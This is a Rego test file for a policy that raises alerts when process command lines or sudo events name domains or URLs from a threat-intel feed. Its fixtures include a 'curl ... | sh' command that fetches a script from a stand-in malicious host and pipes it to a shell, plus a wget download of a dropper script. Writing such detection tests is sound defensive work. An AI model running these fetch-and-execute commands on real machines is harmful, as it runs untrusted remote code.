package posture.alerts.intel_malicious_command_line

fx_now := "2026-11-25T22:10:00Z"

fx_intel := {"indicators": [
	{"type": "domain-name", "value": "evil.example", "description": "C2", "severity": "High", "source": "feed.json#indicator--d"},
	{"type": "url", "value": "http://203.0.113.9/x.sh", "description": "dropper", "severity": null, "source": "feed.json#indicator--u"},
]}

fx_inp(procs, privilege) := {"machines": [{"id": "/m/web-01", "hostname": "web-01", "snapshot": {"collectedAt": fx_now, "processes": {"running": procs}, "events": {"privilege": privilege}}, "history": []}], "parameters": {}, "now": fx_now}

test_listed_domains_and_urls_in_command_lines_fire if {
	proc := {"pid": 5, "user": "www-data", "exe": "/usr/bin/curl", "commandLine": "curl -s https://cdn.evil.example/a | sh"}
	out := alerts with input as fx_inp([proc], []) with data.posture.intel as fx_intel
	count(out) == 1
	some a in out
	a.severity == "High"
	a.message == "www-data ran `curl -s https://cdn.evil.example/a | sh`, which names evil.example, a known malicious domain-name (C2)"
	sudo := {"time": "2026-11-25T21:00:00Z", "tool": "sudo", "user": "deploy", "command": "/usr/bin/wget http://203.0.113.9/x.sh"}
	out2 := alerts with input as fx_inp([], [sudo]) with data.posture.intel as fx_intel
	some b in out2
	b.start == "2026-11-25T21:00:00Z"
	not b.severity
}

test_lookalike_names_are_quiet if {
	procs := [{"pid": 5, "exe": "/usr/bin/curl", "commandLine": "curl https://notevil.example/ https://evil.example.org/"}]
	count(alerts) == 0 with input as fx_inp(procs, []) with data.posture.intel as fx_intel
}

test_without_intel_or_commands_nothing_is_matched if {
	count(alerts) == 0 with input as fx_inp([{"pid": 5, "commandLine": "curl evil.example"}], [])
	count(alerts) == 0 with input as fx_inp(null, null) with data.posture.intel as fx_intel
}

test_case_variants if {
	count(alerts) == 1 with input as fx_inp([{"pid": 5, "commandLine": "curl HTTPS://API.EVIL.EXAMPLE/c2"}], []) with data.posture.intel as fx_intel
}
